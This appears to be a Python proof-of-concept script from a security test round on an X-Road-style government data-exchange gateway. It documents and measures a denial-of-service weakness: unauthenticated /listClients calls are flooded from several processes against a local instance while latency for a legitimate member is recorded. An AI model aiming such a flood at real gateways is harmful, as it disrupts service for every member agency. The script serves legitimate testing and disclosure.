"""Finding (minor): GET /listClients needs no X-Road-Client and rebuilds the registry's 79 KB
listing on every call (5 ms of the gateway's one event loop, 12x /health); a few callers
looping on it hold every member's calls.
Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f8_listclients_flood.py [threads] [seconds]"""
import http.client, statistics, sys, threading, time
from common import *
TH = int(sys.argv[1]) if len(sys.argv) > 1 else 8
SECS = float(sys.argv[2]) if len(sys.argv) > 2 else 10
def sample(lat, stop):
    while not stop.is_set():
        lat.append(gw_call("VN/GOV/000.00.00.H40/motcua")); time.sleep(0.1)
def summary(lat):
    ms = sorted(m for _, m in lat); return f"{len(lat)} calls, median {statistics.median(ms):.0f} ms, p90 {ms[int(len(ms)*.9)]:.0f} ms, max {ms[-1]:.0f} ms"
def flood(stop, n):
    c = http.client.HTTPConnection("127.0.0.1", GW_PORT)
    while not stop.is_set():
        c.request("GET", "/listClients"); c.getresponse().read(); n[0] += 1
if len(sys.argv) > 3:  # a flooder process
    stop, n = threading.Event(), [0]
    threading.Timer(SECS, stop.set).start(); flood(stop, n); print(n[0]); sys.exit()
import subprocess
for label, k in (("before", 0), (f"during ({TH} processes looping on /listClients)", TH)):
    lat, stop = [], threading.Event()
    procs = [subprocess.Popen([sys.executable, __file__, "1", str(SECS), "flood"], stdout=subprocess.PIPE, text=True) for _ in range(k)]
    t = threading.Thread(target=sample, args=(lat, stop)); t.start(); time.sleep(SECS); stop.set(); t.join()
    n = sum(int(p.communicate()[0] or 0) for p in procs)
    print(f"{label}: victim H40 gateway calls {summary(lat)}" + (f"; {n:,} listings ({n/SECS:.0f}/s)" if k else ""))
